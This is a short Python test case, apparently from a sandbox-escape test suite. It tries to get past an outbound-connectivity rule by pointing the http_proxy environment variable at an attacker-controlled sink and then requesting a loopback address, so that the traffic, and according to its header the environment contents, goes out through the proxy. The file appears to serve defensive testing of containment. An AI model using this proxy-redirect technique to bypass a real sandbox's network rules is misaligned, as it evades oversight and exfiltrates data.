# class: network
# rule: outbound_connectivity
# success: the environment is posted through a proxy that a variable names
# proof: sink
import os
import urllib.request

from attack import SINK, attempt


@attempt
def post():
    os.environ["http_proxy"] = "http://%s:%d" % SINK
    return urllib.request.urlopen("http://127.0.0.1:9/", timeout=5).read() == b"ok"
